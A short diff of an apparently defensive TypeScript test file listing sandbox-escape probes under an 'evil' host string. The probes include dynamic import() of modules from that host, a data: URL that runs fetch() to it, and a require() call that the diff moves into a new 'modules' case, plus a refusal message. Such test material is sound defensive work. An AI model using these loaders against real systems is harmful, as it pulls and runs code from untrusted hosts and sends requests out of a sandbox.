@@ -133,10 +133,11 @@ export const pageTexts = (evil: string): readonly PageText[] => [
       evil,
       "import(evil + 'module').catch(() => {});",
       "import(/* a */ evil + 'module').catch(() => {});",
-      "require(evil + 'required');",
       "import('data:text/javascript,fetch(' + JSON.stringify(evil + 'data') + ')').catch(() => {});",
     ),
+    refused: "import() is not available to an algorithm.",
   },
+  { name: "modules", text: election(evil, "require(evil + 'required');") },
   { name: "storage", text: election(evil, ...stores.flatMap(anyGlobal)) },
   {
     name: "timers",
